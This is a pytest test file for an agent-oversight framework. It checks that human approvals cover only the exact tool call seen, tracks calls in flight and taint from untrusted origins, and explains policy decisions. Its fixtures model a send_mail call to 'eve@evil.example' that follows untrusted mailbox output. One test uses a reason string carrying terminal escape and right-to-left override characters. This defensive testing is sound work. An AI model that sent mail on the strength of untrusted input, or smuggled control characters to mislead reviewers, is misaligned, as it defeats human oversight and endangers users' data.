"""What the journal says of calls: which approvals still count, what is in flight, and why a call was asked."""

import hashlib

import pytest

from loopwright.errors import UsageError
from loopwright.kernel import events as ev
from loopwright.kernel.calls import CallAsk, Origin, ToolCall
from loopwright.kernel.values import BlobRef, Spend
from loopwright.policy.ledger import Calls, fold_calls
from loopwright.views.calls import check_text, explain


def blob(text: str) -> BlobRef:
    return BlobRef(hashlib.sha256(text.encode()).hexdigest(), len(text), "text/plain", text)


def requested(call: str, tool: str = "send_mail", reason: str = "because") -> ev.CallRequested:
    digest = f"digest of {call}"
    body = ToolCall(call, "a1", "agent", tool, "send", blob('{"to":"eve@evil.example"}'), "", digest)
    return ev.CallRequested(body, (Origin("to", "untrusted", "output of list_mails (call c0)"),), blob(reason))


ASKED = ev.CallDecided(
    "c1", "ask", "ask.hole.target", "the user named no such recipient", "write it in the task", ("c0",)
)
QUESTION = ev.Asked("q1", "Send?", "call", CallAsk("c1", "digest of c1", "n", 5_000, False, blob("card")))
YES = ev.Answered("q1", "approve", "ines", "fine", "digest of c1")
READ: list[ev.Body] = [
    requested("c0", "list_mails"),
    ev.CallDecided("c0", "allow", "allow.read", "only reads", "", ()),
    ev.CallIntended("c0", "k0", Spend()),
    ev.CallEnded("c0", "ok", "", blob("[]"), Spend(), "both"),
]
OPEN: list[ev.Body] = [*READ, requested("c1"), ASKED, QUESTION]
DONE: list[ev.Body] = [
    *OPEN,
    YES,
    ev.CallDecided("c1", "allow", "approved", "a person approved exactly this call", "", ("c0",)),
    ev.CallIntended("c1", "k1", Spend(), "q1"),
    ev.CallEnded("c1", "ok", "sent", None, Spend(), "none", 120),
]
FORK = ev.RunForked("parent", 7, "d", "branch")


def events(*bodies: ev.Body) -> list[ev.Event]:
    return [ev.Event("run", number, 1_000 + number, "", body, "") for number, body in enumerate(bodies, 1)]


def folded(*bodies: ev.Body) -> Calls:
    return fold_calls(events(*bodies))


def test_an_approval_covers_exactly_the_call_that_was_seen_until_it_expires() -> None:
    calls = folded(*OPEN, YES)
    found = calls.approved("digest of c1", 4_999)
    assert found is not None and found.ask_id == "q1"
    assert calls.approved("digest of c1", 5_000) is None
    assert calls.approved("digest of c2", 2_000) is None


@pytest.mark.parametrize(
    "more",
    [
        [],
        [ev.Answered("q1", "deny", "ines", "no", "digest of c1")],
        [ev.Answered("q1", "approve", "ines", "", "digest of another call")],
        [ev.Answered("q1", "approve", "ines", "", None)],
        [YES, ev.CallIntended("c1", "k1", Spend(), "q1")],
        [YES, FORK],
        [FORK, YES],
        [ev.StopRequested("ines", "enough"), YES],
    ],
    ids=[
        "unanswered",
        "denied",
        "another-call",
        "no-digest",
        "used",
        "before-a-fork",
        "asked-before-a-fork",
        "stopped",
    ],
)
def test_nothing_else_counts_as_an_approval(more: list[ev.Body]) -> None:
    assert folded(*OPEN, *more).approved("digest of c1", 2_000) is None


def test_open_asks_and_calls_in_flight_are_of_this_run_alone() -> None:
    flying: list[ev.Body] = [*OPEN, YES, ev.CallIntended("c1", "k1", Spend(), "q1")]
    assert [ask.ask_id for ask in folded(*OPEN).open_asks()] == ["q1"]
    assert [record.call.call_id for record in folded(*flying).in_flight()] == ["c1"]
    assert folded(*OPEN, FORK).open_asks() == () == folded(*flying, FORK).in_flight()
    assert folded(*DONE).in_flight() == () == folded(*DONE).open_asks()


def test_past_calls_keep_their_first_verdict_and_what_became_of_them() -> None:
    first, second = folded(*DONE, requested("c2")).past()
    assert (first.call_id, first.verdict, first.taint, first.started) == ("c0", "allow", "both", True)
    assert (second.verdict, second.rule, second.status, second.sent_bytes) == ("ask", "ask.hole.target", "ok", 120)


def test_a_stop_kills_and_a_fork_starts_anew() -> None:
    stop = ev.StopRequested("gate", "a canary was about to leave", "integrity")
    assert folded(*OPEN, stop).killed == "a canary was about to leave"
    assert folded(*OPEN, stop, FORK).killed is None


def test_folding_in_pieces_is_folding_at_once() -> None:
    whole = events(*DONE, FORK, requested("c2"))
    for cut in range(len(whole)):
        before = fold_calls(whole[:cut])
        kept = fold_calls(whole[:cut])
        assert fold_calls(whole[cut:], before) == fold_calls(whole)
        assert before == kept


@pytest.mark.parametrize("seq", range(5, 12))
def test_any_event_of_a_call_explains_it(seq: int) -> None:
    found = explain(events(*DONE), seq)
    assert (found.call_id, found.seq, found.tool) == ("c1", 5, "send_mail")
    assert [d.rule for d in found.decisions] == ["ask.hole.target", "approved"]
    assert found.trail == ("c0 (list_mails)",)
    assert [(a.ask_id, a.state, a.by) for a in found.answers] == [("q1", "approved and used", "ines")]


def test_an_explanation_says_rule_reason_remedy_origin_and_last_the_actors_words() -> None:
    lines = explain(events(*DONE), 6).lines()
    text = "\n".join(lines)
    for part in (
        "ask.hole.target: the user named no such recipient",
        "write it in the task",
        "untrusted",
        "c0 (list_mails)",
        "ok, 120 bytes",
    ):
        assert part in text
    assert lines[-1] == '  the actor says: "because"'


def test_what_an_actor_wrote_cannot_move_a_terminal() -> None:
    hostile = requested("c1", reason="fine\n\x1b[2J\u202e approved")
    lines = explain(events(hostile, ASKED), 1).lines()
    assert all(line.isprintable() for line in lines)
    assert "\\x1b" in lines[-1] and "\\u202e" in lines[-1]


@pytest.mark.parametrize(
    ("seq", "part"), [(1, "found pause_requested; the nearest call is event 2"), (99, "which has 3")]
)
def test_an_event_about_no_call_is_named_for_what_it_is(seq: int, part: str) -> None:
    known = events(ev.PauseRequested("ines", "lunch"), requested("c1"), ASKED)
    with pytest.raises(UsageError, match=part):
        explain(known, seq)


def test_checking_a_policy_file_says_what_it_allows_asks_and_denies() -> None:
    text = """
[grant]
tools = ["send_mail"]
effects = ["read", "send", "destroy"]
hosts = ["a.example"]
[[rule]]
verdict = "deny"
tool = "send_mail"
why = "not to the press"
[[plan]]
tool = "other"
"""
    lines = check_text("p.toml", text)
    shown = "\n".join(lines)
    for part in (
        "allowed  tools send_mail",
        "hosts a.example",
        "each time: destroy",
        "not to the press",
        "nobody is there: deny",
        "'other' does nothing",
    ):
        assert part in shown, part
    with pytest.raises(UsageError, match=r"p\.toml:2: grant\.tool"):
        check_text("p.toml", "[grant]\ntool = 1")
